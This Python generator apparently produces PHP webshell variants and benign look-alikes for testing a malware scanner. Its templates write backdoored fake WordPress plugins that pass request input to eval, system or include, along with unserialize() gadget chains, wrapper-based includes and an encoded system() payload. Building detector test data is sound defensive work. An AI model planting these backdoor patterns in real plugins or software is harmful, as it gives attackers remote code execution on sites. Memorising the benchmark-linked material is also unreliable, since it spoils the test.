"""Invented variants of the webshell techniques of round 4 (branch webshell4),
for gen_variants.py.

Written from the technique names of the blind held-out set 2's weak spots
(its files were not opened): fake WordPress plugins whose hooks reach a sink
through named functions, methods, class-array and static-string callbacks,
REST route callbacks (the WP_REST_Request), shortcodes and filters, with the
input through wp_unslash()/sanitize_text_field() or an option the plugin
stores and reads back; gadget chains reached from unserialize() of input
(properties with defaults, a second class's __toString or method called from
a __destruct, __call/__get/__invoke, writes and includes in magic methods);
includes through a wrapper or a built path (php://filter, zip:// and phar://
of an upload, expect://, the upload's temp name, a temp file holding the
request, a stream_wrapper_register()ed class, input in the middle of a fixed
directory); and paths the evaluator lost (a callee from a list the request
sent, a decoded JSON object's properties). Then the look-alikes of real
plugins and applications: a settings page behind a capability and a nonce,
a REST route reading a number, unserialize() without classes, template
loaders behind a whitelist or basename().

Each template takes (g, php_file) and returns the file's text; the text is
scanned, never run.
"""

# sources usable inside a function (no prelude statement at the file's top)
FN_SRC = ["GET", "POST", "POST", "REQUEST", "COOKIE", "header", "folded", "globals"]


def _src(g):
    return g.src(g.rng.choice(FN_SRC))


def _header(g):
    r = g.rng
    name = r.choice(["Site Health Helper", "Cache Tools", "WP Stats Lite", "Simple SEO Fix",
                     "Woo Sync Bridge", "Header Footer Code", "Classic Widgets Plus"])
    return ("/*\n * Plugin Name: %s\n * Description: %s\n * Version: %d.%d.%d\n * Author: %s\n"
            " * License: GPL2\n */\nif (!defined('ABSPATH')) {\n    exit;\n}\n"
            % (name, r.choice(["Keeps the site fast.", "Small fixes.", "Compatibility helpers."]),
               r.randint(1, 4), r.randint(0, 9), r.randint(0, 20),
               r.choice(["WP Team", "Plugin Labs", "John Smith"])))


def _sink(g, arg):
    """A statement that runs arg (code, a command, a call, a write or an include)."""
    r = g.rng
    s = r.choice(["eval", "assert", "system", "passthru", "shell_exec", "exec", "cuf", "include",
                  "popen"])
    g.transforms.add("sink:" + s)
    if s == "shell_exec":
        return "echo %s(%s);" % (g.fn(s), arg)
    if s == "exec":
        o = g.var()
        return "%s(%s, %s); echo implode(\"\\n\", %s);" % (g.fn(s), arg, o, o)
    if s == "cuf":
        return "%s('system', %s);" % (g.fn("call_user_func"), arg)
    if s == "include":
        return "include %s;" % arg
    if s == "popen":
        return "pclose(%s(%s, 'r'));" % (g.fn("popen"), arg)
    return "%s%s(%s);" % (g.at(), g.fn(s), arg)


def _wrap_in(g, x):
    """The input through WordPress's unslashing or its HTML sanitizers."""
    r = g.rng
    w = r.choice(["", "wp_unslash", "sanitize_text_field", "sanitize_textarea_field",
                  "stripslashes_deep", "wp_kses_post", "both"])
    g.transforms.add("wrap:" + (w or "none"))
    if w == "both":
        return "sanitize_text_field(wp_unslash(%s))" % x
    return "%s(%s)" % (w, x) if w else x


def t_wp_hook_plugin(g, php_file):
    r = g.rng
    form = r.choice(["named", "method_this", "class_const", "static_string", "rest_named",
                     "rest_method", "rest_closure", "shortcode", "filter", "option_store",
                     "transient_store", "rest_call"])
    g.transforms.add("hook4:" + form)
    hook = r.choice(["init", "wp_head", "template_redirect", "wp_loaded", "plugins_loaded",
                     "wp_ajax_nopriv_" + g.fname().lower(), "admin_init", "parse_request"])
    v = g.var()
    x = _wrap_in(g, _src(g))
    inner = "%s = %s;\n    if (!empty(%s)) {\n        %s\n    }" % (v, x, v, _sink(g, v))
    cls, m, f = g.fname().capitalize(), g.fname().lower(), g.fname().lower()
    prio = ", %d" % r.randint(1, 99) if r.random() < 0.4 else ""
    if form == "named":
        body = "add_action(%s, %s%s);\nfunction %s() {\n    %s\n}\n" % (g.lit(hook), g.lit(f), prio, f, inner)
        if r.random() < 0.5:  # defined first, registered after
            body = "function %s() {\n    %s\n}\nadd_action(%s, %s%s);\n" % (f, inner, g.lit(hook), g.lit(f), prio)
    elif form == "method_this":
        body = ("class %s {\n    public function __construct() {\n        add_action(%s, array($this, %s)%s);\n"
                "    }\n    public function %s() {\n        %s\n    }\n}\nnew %s();\n"
                % (cls, g.lit(hook), g.lit(m), prio, m, inner, cls))
    elif form == "class_const":
        body = ("class %s {\n    public static function boot() {\n        add_action(%s, [__CLASS__, %s]);\n"
                "    }\n    public static function %s() {\n        %s\n    }\n}\n%s::boot();\n"
                % (cls, g.lit(hook), g.lit(m), m, inner, cls))
    elif form == "static_string":
        body = ("add_action(%s, %s);\nclass %s {\n    static function %s() {\n        %s\n    }\n}\n"
                % (g.lit(hook), g.lit(cls + "::" + m), cls, m, inner))
    elif form in ("rest_named", "rest_method", "rest_closure", "rest_call"):
        req = r.choice(["$request", "$req", "$r", "$data"])
        get = r.choice(["%s->get_param(%s)" % (req, g.lit(g.key())),
                        "%s[%s]" % (req, g.lit(g.key())),
                        "%s->get_body()" % req,
                        "%s->get_header(%s)" % (req, g.lit("x_" + g.key())),
                        "%s->get_json_params()[%s]" % (req, g.lit(g.key())),
                        "%s->get_params()[%s]" % (req, g.lit(g.key()))])
        if r.random() < 0.5:
            get = "%s(%s)" % (g.fn("base64_decode"), get)
        if form == "rest_call":
            run = "return %s(%s->get_param('f'), %s->get_param('a'));" % (g.fn("call_user_func"), req, req)
        else:
            run = "%s = %s;\n    %s\n    return array('ok' => 1);" % (v, get, _sink(g, v))
        typed = "WP_REST_Request " if r.random() < 0.5 else ""
        route = "'%s/v%d', '/%s'" % (g.fname().lower(), r.randint(1, 3), g.fname().lower())
        perm = ", 'permission_callback' => '__return_true'" if r.random() < 0.7 else ""
        if form == "rest_method":
            body = ("class %s {\n    public function __construct() {\n        add_action('rest_api_init', array($this, 'routes'));\n"
                    "    }\n    public function routes() {\n        register_rest_route(%s, array('methods' => 'POST', "
                    "'callback' => array($this, %s)%s));\n    }\n    public function %s(%s%s) {\n        %s\n    }\n}\nnew %s();\n"
                    % (cls, route, g.lit(m), perm, m, typed, req, run, cls))
        elif form == "rest_closure":
            body = ("add_action('rest_api_init', function () {\n    register_rest_route(%s, array(\n"
                    "        array('methods' => 'GET', 'callback' => '__return_empty_array'),\n"
                    "        array('methods' => 'POST', 'callback' => function (%s%s) {\n    %s\n        }%s),\n    ));\n});\n"
                    % (route, typed, req, run, perm))
        else:
            body = ("add_action('rest_api_init', function () {\n    register_rest_route(%s, [\n        'methods' => "
                    "WP_REST_Server::CREATABLE,\n        'callback' => %s%s,\n    ]);\n});\nfunction %s(%s%s) {\n    %s\n}\n"
                    % (route, g.lit(f), perm, f, typed, req, run))
    elif form == "shortcode":
        body = ("add_shortcode(%s, %s);\nfunction %s($atts) {\n    $a = shortcode_atts(array('id' => 0), $atts);\n"
                "    %s\n    return '<div class=\"box\">' . esc_html($a['id']) . '</div>';\n}\n"
                % (g.lit(g.fname().lower()), g.lit(f), f, inner))
    elif form == "filter":
        body = ("add_filter('the_content', array(%s, %s)%s);\nclass %s {\n    public static function %s($content) {\n"
                "        %s\n        return $content;\n    }\n}\n" % (g.lit(cls), g.lit(m), prio, cls, m, inner))
    else:
        opt = "%s_%s" % (g.fname().lower(), r.choice(["cfg", "data", "cache", "opts"]))
        setf, getf = ("update_option", "get_option") if form == "option_store" else ("set_transient", "get_transient")
        extra = ", %d" % r.choice([3600, 86400]) if setf == "set_transient" else ""
        c = g.var()
        body = ("add_action('wp_ajax_nopriv_%s', '%s_set');\nfunction %s_set() {\n    %s(%s, %s%s);\n    wp_die('1');\n}\n"
                "add_action(%s, '%s_run');\nfunction %s_run() {\n    %s = %s(%s);\n    if (%s) {\n        %s\n    }\n}\n"
                % (f, f, f, setf, g.lit(opt), x, extra, g.lit(r.choice(["init", "wp_loaded", "shutdown"])), f, f,
                   c, getf, g.lit(opt), c, _sink(g, c)))
        if r.random() < 0.5:  # the reader first, the setter after
            a, b = body.split("add_action(", 2)[1:]
            body = "add_action(" + b + "add_action(" + a
    return php_file(g, _header(g) + body)


def t_pop_chain(g, php_file):
    r = g.rng
    form = r.choice(["destruct_default", "wakeup_method", "two_class_tostring", "prop_method", "call_magic",
                     "get_magic", "invoke_magic", "destruct_write", "destruct_include", "destruct_fwrite"])
    g.transforms.add("pop:" + form)
    A, B = g.fname().capitalize(), g.fname().capitalize()
    pa, pb = g.fname().lower(), g.fname().lower()
    default = r.choice(["'id'", "''", "null", "'uptime'"])
    if form == "destruct_default":
        body = ("class %s {\n    public $%s = %s;\n    public function __destruct() {\n        if ($this->%s) {\n"
                "            %s\n        }\n    }\n}\n" % (A, pa, default, pa, _sink(g, "$this->" + pa)))
    elif form == "wakeup_method":
        body = ("class %s {\n    protected $%s = %s;\n    public function __wakeup() {\n        $this->%s();\n    }\n"
                "    private function %s() {\n        %s\n    }\n}\n" % (A, pa, default, pb, pb, _sink(g, "$this->" + pa)))
    elif form == "two_class_tostring":
        body = ("class %s {\n    public $%s;\n    public function __destruct() {\n        echo 'Closing ' . $this->%s;\n    }\n}\n"
                "class %s {\n    public $%s = %s;\n    public function __toString() {\n        %s\n        return '';\n    }\n}\n"
                % (A, pa, pa, B, pb, default, _sink(g, "$this->" + pb)))
    elif form == "prop_method":
        body = ("class %s {\n    public $%s;\n    public function __destruct() {\n        $this->%s->flush();\n    }\n}\n"
                "class %s {\n    public $cb = 'trim';\n    public $%s = '';\n    public function flush() {\n"
                "        return call_user_func($this->cb, $this->%s);\n    }\n}\n" % (A, pa, pa, B, pb, pb))
    elif form == "call_magic":
        body = ("class %s {\n    public $%s;\n    public function __destruct() {\n        $this->%s->save();\n    }\n}\n"
                "class %s {\n    public $f;\n    public $a;\n    public function __call($n, $args) {\n"
                "        return ($this->f)($this->a);\n    }\n}\n" % (A, pa, pa, B))
    elif form == "get_magic":
        body = ("class %s {\n    public $%s;\n    public $k = 'x';\n    public function __destruct() {\n"
                "        %s\n    }\n}\nclass %s {\n    public $vals = array();\n    public function __get($n) {\n"
                "        return $this->vals[$n];\n    }\n}\n" % (A, pa, _sink(g, "$this->%s->{$this->k}" % pa), B))
    elif form == "invoke_magic":
        body = ("class %s {\n    public $%s;\n    public function __wakeup() {\n        $f = $this->%s;\n        $f();\n    }\n}\n"
                "class %s {\n    public $c;\n    public function __invoke() {\n        %s\n    }\n}\n"
                % (A, pa, pa, B, _sink(g, "$this->c")))
    elif form == "destruct_write":
        body = ("class %s {\n    public $%s = '/tmp/cache.log';\n    public $%s = '';\n    public function __destruct() {\n"
                "        %s($this->%s, $this->%s);\n    }\n}\n" % (A, pa, pb, g.fn("file_put_contents"), pa, pb))
    elif form == "destruct_fwrite":
        body = ("class %s {\n    public $%s;\n    public $%s;\n    public function __destruct() {\n"
                "        $h = fopen($this->%s, 'w');\n        fwrite($h, $this->%s);\n        fclose($h);\n    }\n}\n"
                % (A, pa, pb, pa, pb))
    else:
        body = ("class %s {\n    public $%s = 'views/default.php';\n    public function __destruct() {\n"
                "        include $this->%s;\n    }\n}\n" % (A, pa, pa))
    data = g.src(r.choice(["COOKIE", "POST", "REQUEST", "GET", "input"]))
    dec = r.choice(["", "base64_decode", "urldecode", "stripslashes", "gzb64", "hex2bin"])
    g.transforms.add("pop_data:" + (dec or "raw"))
    if dec == "gzb64":
        data = "gzuncompress(base64_decode(%s))" % data
    elif dec:
        data = "%s(%s)" % (g.fn(dec), data)
    fn = r.choice(["unserialize", "unserialize", "maybe_unserialize"])
    o = g.var()
    if r.random() < 0.3:
        f = g.fname().lower()
        body += "function %s() {\n    return %s%s(%s);\n}\n%s = %s();\n" % (f, g.at(), fn, data, o, f)
    else:
        body += "%s = %s%s(%s);\n" % (o, g.at(), g.fn(fn), data)
    return php_file(g, body)


def t_wrapper_include(g, php_file):
    r = g.rng
    form = r.choice(["filter_input", "zip_upload", "phar_upload", "expect", "tmp_name", "sprintf_path",
                     "strip_dots", "lfi_dir", "lfi_interp", "tmpfile_input", "tmpfile_fwrite",
                     "stream_wrapper_input", "stream_wrapper_payload"])
    g.transforms.add("inc4:" + form)
    inc = r.choice(["include", "include_once", "require", "require_once"])
    k = g.lit(g.key())
    p = g.var()
    if form == "filter_input":
        flt = r.choice(["convert.base64-decode", "read=string.rot13", "convert.base64-encode", "zlib.inflate"])
        body = "%s = %s;\n%s 'php://filter/%s/resource=' . %s;\n" % (p, g.src(), inc, flt, p)
    elif form in ("zip_upload", "phar_upload"):
        scheme = "zip://" if form == "zip_upload" else "phar://"
        sep = "#" if scheme == "zip://" else "/"
        body = ("if (!empty($_FILES[%s])) {\n    %s = $_FILES[%s]['tmp_name'];\n    %s %s . %s . %s;\n}\n"
                % (k, p, k, inc, g.lit(scheme), p, g.lit(sep + g.fname().lower() + ".php")))
    elif form == "expect":
        body = "%s = %s;\n%s(%s . %s);\n" % (p, g.src(), inc, g.enc("expect://", allow=["plain", "concat"]), p)
    elif form == "tmp_name":
        body = "if (isset($_FILES[%s])) {\n    %s $_FILES[%s]['tmp_name'];\n}\n" % (k, inc, k)
    elif form == "sprintf_path":
        body = "%s = %s('%%s/%s/%%s.php', __DIR__, %s);\n%s %s;\n" % (
            p, g.fn("sprintf"), r.choice(["modules", "pages", "inc"]), g.src(), inc, p)
    elif form == "strip_dots":
        body = "%s = %s('../', '', %s);\n%s %s . %s;\n" % (
            p, g.fn("str_replace"), g.src(), inc, g.lit(r.choice(["../", "./", "pages/"])), p)
    elif form == "lfi_dir":
        d = g.var()
        body = "%s = %s . '/%s/';\n%s %s . %s . '.php';\n" % (
            d, r.choice(["__DIR__", "dirname(__FILE__)", "'.'"]), r.choice(["pages", "tpl", "lang"]), inc, d, g.src())
    elif form == "lfi_interp":
        body = "%s = isset(%s) ? %s : 'en';\n%s \"lang/{%s}.php\";\n" % (
            p, "$_COOKIE[%s]" % k, "$_COOKIE[%s]" % k, inc, p)
    elif form == "tmpfile_input":
        t = g.var()
        body = ("%s = %s(sys_get_temp_dir(), %s);\n%s(%s, %s);\n%s %s;\n@unlink(%s);\n"
                % (t, g.fn("tempnam"), g.lit(g.fname()[:3]), g.fn("file_put_contents"), t,
                   r.choice(["file_get_contents('php://input')", g.src("POST"), "base64_decode(%s)" % g.src("POST")]),
                   inc, t, t))
    elif form == "tmpfile_fwrite":
        t, h = g.var(), g.var()
        body = ("%s = '/tmp/.' . md5(uniqid());\n%s = fopen(%s, 'w');\n%s(%s, %s);\nfclose(%s);\n%s %s;\n"
                % (t, h, t, g.fn(r.choice(["fwrite", "fputs"])), h, r.choice([g.src("POST"), "base64_decode(%s)" % g.src("COOKIE")]),
                   h, inc, t))
    else:
        cls, proto = g.fname().capitalize(), r.choice(["var", "mem", "tpl", "str"])
        if form == "stream_wrapper_input":
            fill = "$this->d = %s;" % g.src(r.choice(["POST", "COOKIE", "REQUEST"]))
        else:
            code = "<?php %s(%s);" % (r.choice(["system", "passthru", "eval"]), "$_GET['%s']" % g.key())
            import base64
            fill = "$this->d = base64_decode('%s');" % base64.b64encode(code.encode()).decode()
        body = ("class %s {\n    public $context;\n    private $d;\n    private $p = 0;\n"
                "    public function stream_open($path, $mode, $options, &$opened) {\n        %s\n        return true;\n    }\n"
                "    public function stream_read($n) {\n        $r = substr($this->d, $this->p, $n);\n        $this->p += strlen($r);\n"
                "        return $r;\n    }\n    public function stream_eof() {\n        return $this->p >= strlen($this->d);\n    }\n"
                "    public function stream_stat() {\n        return array();\n    }\n}\n"
                "stream_wrapper_register(%s, %s);\n%s %s;\n"
                % (cls, fill, g.lit(proto), g.lit(cls), inc, g.lit(proto + "://" + g.fname().lower())))
    return php_file(g, body)


def t_lost_flows(g, php_file):
    r = g.rng
    form = r.choice(["explode_index", "explode_list", "explode_fn", "json_prop", "json_callee", "json_method_arr"])
    g.transforms.add("flow4:" + form)
    a, b, e = g.var(), g.var(), g.var()
    sep = r.choice(["|", ":", ",", "#"])
    data = g.src()
    if r.random() < 0.5:
        data = "%s(%s)" % (g.fn(r.choice(["base64_decode", "str_rot13", "strrev"])), data)
    if form == "explode_index":
        body = "%s = explode(%s, %s);\n%s[0](%s[1]);\n" % (e, g.lit(sep), data, e, e)
    elif form == "explode_list":
        lhs = "[%s, %s]" % (a, b) if r.random() < 0.5 else "list(%s, %s)" % (a, b)
        body = "%s = explode(%s, %s);\n%s(%s);\n" % (lhs, g.lit(sep), data, a, b)
    elif form == "explode_fn":
        f = g.fname().lower()
        body = ("function %s($s) {\n    list($f, $x) = explode(%s, $s, 2);\n    return $f($x);\n}\necho %s(%s);\n"
                % (f, g.lit(sep), f, data))
    elif form == "json_prop":
        body = "%s = json_decode(%s);\n%s\n" % (e, r.choice([data, "file_get_contents('php://input')"]),
                                              _sink(g, "%s->%s" % (e, g.fname().lower())))
    elif form == "json_callee":
        body = "%s = json_decode(%s);\n%s = %s->f;\n%s(%s->a);\n" % (e, data, a, e, a, e)
    else:
        body = "%s = json_decode(%s, true);\ncall_user_func(%s['f'], %s['a']);\n" % (e, data, e, e)
    return php_file(g, body)


# ---- look-alikes


def b_wp_plugin_real(g, php_file):
    r = g.rng
    form = r.choice(["settings", "rest_number", "shortcode", "ajax_nonce", "rest_admin", "cron_fixed"])
    g.transforms.add("benign4:" + form)
    pre = g.fname().lower()
    if form == "settings":
        body = ("add_action('admin_post_%s_save', '%s_save');\nfunction %s_save() {\n"
                "    if (!current_user_can('manage_options')) {\n        wp_die(__('Not allowed', '%s'));\n    }\n"
                "    check_admin_referer('%s_save');\n    update_option('%s_title', sanitize_text_field(wp_unslash($_POST['title'])));\n"
                "    wp_safe_redirect(admin_url('options-general.php?page=%s'));\n    exit;\n}\n"
                "add_action('wp_head', function () {\n    echo '<meta name=\"%s\" content=\"' . esc_attr(get_option('%s_title')) . '\">';\n});\n"
                % (pre, pre, pre, pre, pre, pre, pre, pre, pre))
    elif form == "rest_number":
        body = ("add_action('rest_api_init', function () {\n    register_rest_route('%s/v1', '/item/(?P<id>\\d+)', array(\n"
                "        'methods' => 'GET',\n        'callback' => '%s_item',\n        'permission_callback' => '__return_true',\n"
                "    ));\n});\nfunction %s_item(WP_REST_Request $request) {\n    $id = absint($request->get_param('id'));\n"
                "    $post = get_post($id);\n    if (!$post) {\n        return new WP_Error('not_found', 'No item', array('status' => 404));\n    }\n"
                "    return array('title' => get_the_title($post), 'q' => sanitize_text_field($request['q']));\n}\n"
                % (pre, pre, pre))
    elif form == "shortcode":
        body = ("add_shortcode('%s_box', array('%s_Box', 'render'));\nclass %s_Box {\n    public static function render($atts) {\n"
                "        $a = shortcode_atts(array('title' => '', 'color' => 'blue'), $atts);\n"
                "        return '<div style=\"color:' . esc_attr($a['color']) . '\">' . esc_html($a['title']) . '</div>';\n"
                "    }\n}\n" % (pre, pre.capitalize(), pre.capitalize()))
    elif form == "ajax_nonce":
        body = ("add_action('wp_ajax_%s_vote', '%s_vote');\nfunction %s_vote() {\n    check_ajax_referer('%s_vote', 'nonce');\n"
                "    $id = intval($_POST['id']);\n    $n = (int) get_post_meta($id, '_votes', true);\n"
                "    update_post_meta($id, '_votes', $n + 1);\n    wp_send_json_success(array('votes' => $n + 1));\n}\n"
                % (pre, pre, pre, pre))
    elif form == "rest_admin":
        body = ("class %s_Api {\n    public function __construct() {\n        add_action('rest_api_init', array($this, 'routes'));\n    }\n"
                "    public function routes() {\n        register_rest_route('%s/v1', '/settings', array('methods' => 'POST',\n"
                "            'callback' => array($this, 'save'),\n            'permission_callback' => function () { return current_user_can('manage_options'); }));\n"
                "    }\n    public function save($request) {\n        update_option('%s_settings', map_deep($request->get_json_params(), 'sanitize_text_field'));\n"
                "        return rest_ensure_response(array('saved' => true));\n    }\n}\nnew %s_Api();\n"
                % (pre.capitalize(), pre, pre, pre.capitalize()))
    else:
        body = ("add_action('%s_daily', '%s_cleanup');\nfunction %s_cleanup() {\n    $dir = wp_upload_dir();\n"
                "    foreach (glob($dir['basedir'] . '/%s-cache/*.tmp') as $f) {\n        if (filemtime($f) < time() - DAY_IN_SECONDS) {\n"
                "            unlink($f);\n        }\n    }\n}\n" % (pre, pre, pre, pre))
    return php_file(g, _header(g) + body)


def b_unserialize_safe(g, php_file):
    r = g.rng
    form = r.choice(["no_classes", "own_cache", "json_instead", "allowed_list"])
    g.transforms.add("benign4:" + form)
    A = g.fname().capitalize()
    cls = ("class %s {\n    public $file = '/var/log/app.log';\n    public function __destruct() {\n"
           "        file_put_contents($this->file, date('c') . \"\\n\", FILE_APPEND);\n    }\n}\n" % A)
    if form == "no_classes":
        body = cls + "$p = unserialize($_COOKIE['prefs'], array('allowed_classes' => false));\necho (int) $p['page'];\n"
    elif form == "own_cache":
        body = cls + "$c = unserialize(file_get_contents(__DIR__ . '/cache/data.ser'));\n"
    elif form == "json_instead":
        body = cls + "$p = json_decode(stripslashes($_COOKIE['prefs']), true);\necho esc_html($p['theme'] ?? 'light');\n"
    else:
        body = ("class Cart {\n    public $items = array();\n    public function __wakeup() {\n"
                "        $this->items = array_values($this->items);\n    }\n}\n"
                "$cart = unserialize($_SESSION['cart'] ?? '', array('allowed_classes' => array('Cart')));\n")
    return php_file(g, body)


def b_template_loader(g, php_file):
    r = g.rng
    form = r.choice(["whitelist", "basename", "char_class", "map", "locale", "guarded"])
    g.transforms.add("benign4:" + form)
    if form == "whitelist":
        body = ("$name = isset($_GET['tpl']) ? $_GET['tpl'] : 'home';\n$allowed = array('home', 'about', 'contact');\n"
                "if (!in_array($name, $allowed, true)) {\n    $name = 'home';\n}\ninclude __DIR__ . '/tpl/' . basename($name) . '.php';\n")
    elif form == "basename":
        body = "$v = isset($_GET['view']) ? $_GET['view'] : 'list';\ninclude __DIR__ . '/views/' . basename($v) . '.php';\n"
    elif form == "char_class":
        body = ("$page = preg_replace('/[^a-z0-9_]/', '', $_GET['p'] ?? 'index');\n"
                "include __DIR__ . '/pages/' . $page . '.php';\n")
    elif form == "map":
        body = ("$map = array('a' => 'alpha.php', 'b' => 'beta.php');\n$k = $_GET['k'] ?? 'a';\n"
                "include __DIR__ . '/inc/' . ($map[$k] ?? 'alpha.php');\n")
    elif form == "locale":
        body = "$locale = get_locale();\nrequire_once __DIR__ . '/lang/' . $locale . '.php';\n"
    else:
        body = ("$tab = $_GET['tab'] ?? 'general';\nif (in_array($tab, array('general', 'mail', 'advanced'), true)) {\n"
                "    include __DIR__ . \"/tabs/$tab.php\";\n}\n")
    return php_file(g, body)


def ws4_templates(php_file):
    """The (name, fn, class, lang, expect) rows, each fn bound to php_file."""
    def bind(fn):
        return lambda g: fn(g, php_file)
    return [
        ("wp_hook_plugin4", bind(t_wp_hook_plugin), "malicious", "php", "high"),
        ("pop_chain4", bind(t_pop_chain), "malicious", "php", "high"),
        ("wrapper_include4", bind(t_wrapper_include), "malicious", "php", "high"),
        ("lost_flows4", bind(t_lost_flows), "malicious", "php", "high"),
        ("wp_plugin_real", bind(b_wp_plugin_real), "benign", "php", "none"),
        ("unserialize_safe", bind(b_unserialize_safe), "benign", "php", "none"),
        ("template_loader", bind(b_template_loader), "benign", "php", "none"),
    ]
